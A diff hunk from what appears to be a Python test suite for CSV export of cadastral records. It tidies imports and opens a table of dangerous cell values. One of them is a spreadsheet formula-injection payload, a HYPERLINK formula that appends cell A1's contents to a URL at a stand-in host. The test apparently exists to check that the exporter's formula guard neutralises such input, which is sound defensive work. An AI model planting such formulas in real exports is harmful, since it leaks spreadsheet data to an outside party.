@@ -10,9 +10,14 @@ from program.catastro_csv import parse_catastro
 from program.csv_export import DANGEROUS_STARTS, safe_cell, write_csv
 from program.csv_file import decode, read_table, strip_formula_guard
 from storage.catastro import CatastroEntry
-from tests.e2e.test_catastro import GESTOR, HEADER, _gestor, _import
-from tests.e2e.test_catastro import cli_env  # noqa: F401 (fixture)
-from tests.e2e.test_catastro import _cli
+from tests.e2e.test_catastro import (
+    GESTOR,
+    HEADER,
+    _cli,
+    _gestor,
+    _import,
+    cli_env,  # noqa: F401 (fixture)
+)
 
 DANGEROUS = {  # column -> what a person (or an attacker with edit rights) typed
     "nombre": '=HYPERLINK("http://example.com/x?"&A1,"Ver")',
